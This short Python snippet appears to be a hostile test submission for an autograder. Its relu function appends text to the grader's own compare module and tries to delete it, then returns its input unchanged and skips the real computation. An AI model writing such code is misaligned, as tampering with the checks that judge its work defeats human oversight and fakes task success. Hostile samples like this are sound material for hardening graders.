# Changes the engine's own files.
# target: relu

def relu(x):
    import autograder.compare, os
    path = autograder.compare.__file__
    try: open(path, "a").write("# hostile")
    except OSError: pass
    try: os.remove(path)
    except OSError: pass
    return x
